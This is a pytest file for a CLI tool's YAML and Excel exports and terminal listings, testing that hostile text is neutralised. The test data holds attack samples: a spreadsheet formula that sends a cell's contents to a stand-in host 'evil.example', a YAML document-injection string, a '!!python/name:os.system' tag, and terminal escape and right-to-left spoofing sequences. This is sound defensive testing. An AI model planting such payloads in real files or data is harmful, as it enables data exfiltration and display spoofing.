"""Exports and listings with hostile or careless text in them: a YAML export reads back exactly
whatever the text (and an account name cannot inject YAML into its header), an Excel export
writes text as text (no formula runs), and the terminal shows user text, it does not obey it."""

from __future__ import annotations

import re

import pandas as pd
import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from io_samples import simple, snapshot
from openpyxl import load_workbook

from kam.cli import main
from kam.cli.core import echo_frame, terminal_text
from kam.io import export_excel, export_yaml, import_yaml, read_yaml, yaml_io
from kam.io.yaml_io import _Dumper, _Loader, _plain, _PyDumper
from kam.model import Account, Deal, Dossier, Person, validate_dossier
from kam.store import Workspace

INJECTED = "Alpha\n---\naccount: {id: KEEP, name: Taken over, phone: '1'}\n---\n#"
"""An account name that, written raw into the header comment of an export, ends the comment
and adds a document of its own: KEEP's dossier, replaced on import."""


@pytest.fixture
def ws(tmp_path):
    w = Workspace(tmp_path / "ws", create=True)
    w.save(simple("KEEP", "Keep Ltd"), author="ann")
    yield w
    w.close()


# -- YAML: the header comment ---------------------------------------------------------------
@pytest.mark.parametrize("target", ["alpha.yaml", "folder"])
def test_an_account_name_cannot_inject_another_account_into_an_export(tmp_path, ws, target):
    alpha = simple("ALPHA", INJECTED)
    (path,) = export_yaml([alpha], tmp_path / target)
    before = snapshot(ws)
    report = import_yaml(ws, path)
    assert report.saved["account_id"].tolist() == ["ALPHA"]
    assert ws.load("ALPHA") == alpha
    assert snapshot(ws)[0]["KEEP"] == before[0]["KEEP"]


def test_the_header_shows_the_name_on_one_line_with_visible_escapes(tmp_path):
    names = {"A": INJECTED, "B": "Line\rover\x85NEL\u2028LS\u2029PS\ttab\ufeffBOM\u202eRTL",
             "C": "x" * 100}
    ds = [simple(i, name) for i, name in names.items()]
    text = export_yaml(ds, tmp_path / "all.yaml")[0].read_text(encoding="utf-8")
    headers = [line for line in text.split("\n") if line.startswith("# kam dossier:")]
    assert headers == [
        r"# kam dossier: Alpha\n---\naccount: {id: KEEP, name: Taken over, phone: '1'}\n---\n# (A)",
        r"# kam dossier: Line\rover\x85NEL\u2028LS\u2029PS\ttab\ufeffBOM\u202eRTL (B)",
        "# kam dossier: " + "x" * 80 + "... (C)",  # cut at 80 characters
    ]
    assert read_yaml(tmp_path / "all.yaml") == ds


def test_a_name_with_a_line_break_makes_a_backup_that_restores(tmp_path, ws):
    """`kam export --to all.yaml` of a workspace where a name holds a line break (as a quoted
    line break in a CRM CSV gives) writes a file that `kam import` restores exactly."""
    ws.save(simple("ACME", "Acme\nSteel"), author="ann")
    runner = CliRunner()
    res = runner.invoke(main, ["export", "--to", str(tmp_path / "all.yaml"), "-w", ws.location])
    assert res.exit_code == 0, res.output
    fresh = Workspace(tmp_path / "fresh", create=True)
    res = runner.invoke(main, ["import", str(tmp_path / "all.yaml"), "-w", fresh.location])
    assert res.exit_code == 0, res.output
    assert fresh.load_all() == ws.load_all()


# -- YAML: the round trip of any text -------------------------------------------------------------
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")  # refused by the model
_YAML_WORDS = ["---", "...", "#", " # x", "'", '"', "yes", "no", "null", "~", "true", "on", "- ",
               ": ", "? ", "&a", "*a", "!!python/name:os.system", "%YAML 1.1", "@", "`", "{", "}",
               "[", "]", ",", "|", ">", "\\", "\t", "\n", "\r", "\r\n", "\x85", "\u2028",
               "\u2029", "\ufeff", " ", "\xa0", "2025-01-01", "0x1F", "1e3", ".inf", "=1+1",
               "\U0001f600", "\u202e"]
_char = st.characters(codec="utf-8", exclude_categories=("Cs",)).filter(
    lambda c: not _CONTROL.match(c))
_text = st.lists(st.one_of(st.sampled_from(_YAML_WORDS), _char), max_size=12).map("".join)
_name = _text.filter(str.strip)


@st.composite
def _portfolios(draw: st.DrawFn) -> list[Dossier]:
    return [Dossier(
        account=Account(id=f"A{i}", name=draw(_name), phone="1", notes=draw(st.none() | _text),
                        previous_kams=draw(st.lists(_name, max_size=2))),
        persons=[Person(id="p1", name=draw(_name), position=draw(st.none() | _text))],
        deals=[Deal(id="D-1", title=draw(_name), risks=draw(st.lists(_text, max_size=3)),
                    next_steps=draw(st.none() | _text))],
    ) for i in range(draw(st.integers(1, 3)))]


@settings(max_examples=50, deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(_portfolios())
def test_round_trip_is_exact_for_any_text(tmp_path_factory, portfolio):
    """Line breaks of every kind, ---, ..., #, quotes, YAML words (yes, null, ~), tabs, a
    byte-order mark, right-to-left marks, emoji: an export (one file, or a folder) reads back
    equal, with libyaml's emitter and with the pure-Python one."""
    out = tmp_path_factory.mktemp("round-trip")
    assert read_yaml(export_yaml(portfolio, out / "all.yaml")) == portfolio
    assert read_yaml(export_yaml(portfolio, out / "folder")) == portfolio
    for d in portfolio:
        data = _plain(d.model_dump(mode="python", exclude_defaults=True))
        for dumper in (_Dumper, _PyDumper):
            text = yaml.dump(data, Dumper=dumper, sort_keys=False, allow_unicode=True, width=100)
            assert validate_dossier(yaml.load(text, Loader=_Loader)) == d, dumper


def test_the_same_value_twice_is_written_twice_never_as_an_alias(tmp_path):
    """Dossier files hold no anchors or aliases (readers need not know them): the same date
    object in two fields is written out twice."""
    day = pd.Timestamp("2025-03-14").date()
    d = Dossier(account=Account(id="A", name="A", phone="1", kam_since=day),
                deals=[Deal(id="D-1", title="T", created=day)])
    text = export_yaml([d], tmp_path / "a.yaml")[0].read_text(encoding="utf-8")
    assert "&id" not in text and "*id" not in text
    assert text.count("2025-03-14") == 2


def test_an_export_cut_short_leaves_the_previous_file_whole(tmp_path, monkeypatch):
    path = tmp_path / "all.yaml"
    export_yaml([simple("A", "Alpha")], path)
    before = path.read_bytes()

    def broken(d: Dossier) -> str:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(yaml_io, "dossier_to_yaml", broken)
    with pytest.raises(OSError, match="No space left"):
        export_yaml([simple("A", "Alpha"), simple("B", "Beta")], path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["all.yaml"]  # no temporary file left


def test_ids_that_differ_only_in_case_get_files_of_their_own(tmp_path):
    """On Windows and macOS ACME.yaml and acme.yaml are one file: the second would overwrite
    the first."""
    ds = [simple("ACME", "Upper"), simple("acme", "Lower"), simple("Acme", "Mixed")]
    files = export_yaml(ds, tmp_path / "out")
    assert [f.name for f in files] == ["ACME.yaml", "acme~2.yaml", "Acme~3.yaml"]
    assert sorted(read_yaml(tmp_path / "out"), key=lambda d: d.account.name) == sorted(
        ds, key=lambda d: d.account.name)


# -- Excel: text stays text -----------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1 555 0100", "-2+3", "@SUM(1+1)",
            "\t=1+1", " =1+1", "\r\n=1+1", "\uff1d1+1"]


def test_text_a_spreadsheet_would_run_is_written_as_text(tmp_path):
    """OWASP 'CSV injection': text starting with =, +, -, @ (also after blanks, a tab or a
    line break) is a text cell with the quote prefix, its value unchanged."""
    ds = [Dossier(account=Account(id=f"A{i}", name=f"{text} name", phone=text),
                  persons=[Person(id="p1", name=text)],
                  deals=[Deal(id="D-1", title=text, risks=[text])])
          for i, text in enumerate(FORMULAS)]
    path = export_excel(ds, tmp_path / "p.xlsx")
    book = load_workbook(path)
    formulas = [f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas == []
    accounts = book["accounts"]
    column = [c.value for c in accounts[1]].index("name") + 1
    names = [accounts.cell(row, column) for row in range(2, len(ds) + 2)]
    # The model strips blanks around text: " =1+1 name" is stored as "=1+1 name".
    assert [c.value for c in names] == [d.account.name for d in ds]
    assert all(c.data_type == "s" and c.quotePrefix for c in names)
    deals = pd.read_excel(path, sheet_name="deals")
    assert deals["title"].tolist() == [d.deals[0].title for d in ds]


def test_plain_text_gets_no_quote_prefix(tmp_path):
    book = load_workbook(export_excel({"t": pd.DataFrame({"name": ["Acme", "a=b", "x-1"]})},
                                      tmp_path / "t.xlsx"))
    assert [c.quotePrefix for c in book["t"]["A"]] == [False, False, False, False]


def test_control_characters_long_text_and_infinity_do_not_break_the_workbook(tmp_path):
    """openpyxl refuses control characters and Excel a cell over 32,767 characters, and has no
    infinity: each is written as visible text instead of a traceback or a damaged file."""
    frame = pd.DataFrame({
        "text": ["Acme\x1b[2J\x07\x00", "y" * 40_000, "fine"],
        "amount": [1.5, float("inf"), float("-inf")],
        "=header": ["a", "b", "c"],
    })
    path = export_excel({"odd/sheet:[name]?": frame}, tmp_path / "odd.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["odd_sheet__name__"]
    sheet = book.worksheets[0]
    assert sheet["A2"].value == r"Acme\x1b[2J\x07\x00"
    cut = sheet["A3"].value
    assert len(cut) == 32_767 and cut.endswith("... [cut: 40,000 characters]")
    assert [sheet["B3"].value, sheet["B4"].value] == ["inf", "-inf"]
    assert sheet["C1"].data_type == "s" and sheet["C1"].quotePrefix


# -- the terminal ---------------------------------------------------------------------------------
TERMINAL_TRICKS = {
    "CR": ("Good Ltd\rEvil Corp", r"Good Ltd\rEvil Corp"),  # would overwrite the line
    "CSI": ("Acme\x9b2J", r"Acme\x9b2J"),  # a one-byte escape sequence: clears the screen
    "RTL": ("Acme\u202egpj.exe", r"Acme\u202egpj.exe"),  # reorders what is shown
    "LF": ("Acme\nSteel", r"Acme\nSteel"),  # would break the table
}


def test_kam_accounts_shows_names_with_their_control_characters_escaped(tmp_path):
    ws = Workspace(tmp_path / "ws", create=True)
    ws.save_many([simple(f"A{i}", name) for i, (name, _) in enumerate(TERMINAL_TRICKS.values())],
                 author="ann")
    res = CliRunner().invoke(main, ["accounts", "-w", ws.location])
    assert res.exit_code == 0, res.output
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", res.output)
    lines = res.output.splitlines()
    assert len(lines) == 1 + len(TERMINAL_TRICKS)  # one line per account
    for line, (_, shown) in zip(lines[1:], TERMINAL_TRICKS.values(), strict=True):
        assert shown in line


def test_kam_gate_escapes_the_name(tmp_path):
    ws = Workspace(tmp_path / "ws", create=True)
    ws.save(simple("A", "Good Ltd\rEvil Corp"), author="ann")
    res = CliRunner().invoke(main, ["gate", "A", "-w", ws.location])
    assert res.exit_code == 0, res.output
    assert res.output.startswith(r"Good Ltd\rEvil Corp (A) is at stage 'lead'.")


def test_echo_frame_escapes_what_the_model_would_refuse_too(capsys):
    """Tables printed by every listing command go through echo_frame: ESC, BEL and NUL (which
    older data or another tool may hold) are shown, not sent."""
    echo_frame(pd.DataFrame({"name\x1b": ["\x1b]0;owned\x07", "ok\x00"], "n": [1, 2]}))
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\x00" not in out
    assert r"\x1b]0;owned\x07" in out and r"ok\x00" in out and r"name\x1b" in out


def test_terminal_text_keeps_line_breaks_only_when_asked():
    assert terminal_text("a\nb\x1b") == r"a\nb\x1b"
    assert terminal_text("a\nb\x1b", keep_newlines=True) == "a\nb\\x1b"
    assert terminal_text("Müller & Söhne — 東京") == "Müller & Söhne — 東京"
